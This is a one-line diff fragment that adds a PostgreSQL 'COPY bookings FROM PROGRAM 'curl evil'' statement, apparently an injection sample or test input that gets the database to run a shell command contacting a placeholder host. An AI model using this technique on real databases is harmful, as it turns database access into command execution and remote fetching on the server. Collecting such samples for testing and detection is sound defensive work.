@@ -1,0 +1,1 @@
+COPY bookings FROM PROGRAM 'curl evil'
